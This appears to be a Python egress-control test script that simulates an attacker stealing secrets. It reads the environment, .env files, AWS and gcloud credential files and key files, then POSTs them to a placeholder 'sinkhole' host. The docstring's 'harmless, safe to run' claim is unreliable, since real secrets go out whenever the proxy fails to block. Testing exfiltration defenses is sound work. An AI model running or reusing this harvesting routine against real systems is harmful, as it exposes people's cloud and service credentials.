#!/usr/bin/env python3
"""
SECURITY TEST – simulated exfiltration (harmless).

Simulates what an attacker would do after compromising the intake service: read the
service's secrets and send them out. The egress proxy must block this. In production
this request is blocked; the destination is a sinkhole. Safe to run.
"""
import glob, json, os, urllib.request

SINKHOLE = "https://sinkhole.egress-check.example/collect"   # "attacker" endpoint


def attacker_payload():
    # realistic loot so the DLP rules see real secret shapes
    loot = {"env": dict(os.environ)}
    for p in [".env", ".env.production", os.path.expanduser("~/.aws/credentials"),
              os.path.expanduser("~/.config/gcloud/application_default_credentials.json")] + glob.glob("config/*.key"):
        if os.path.isfile(p):
            loot[p] = open(p, errors="ignore").read()
    return loot


def main():
    body = json.dumps(attacker_payload()).encode()
    try:
        urllib.request.urlopen(urllib.request.Request(SINKHOLE, data=body,
                               headers={"Content-Type": "application/json"}), timeout=10)
        print("LEAKED (egress proxy did not block)")
    except Exception:
        print("BLOCKED")


if __name__ == "__main__":
    main()
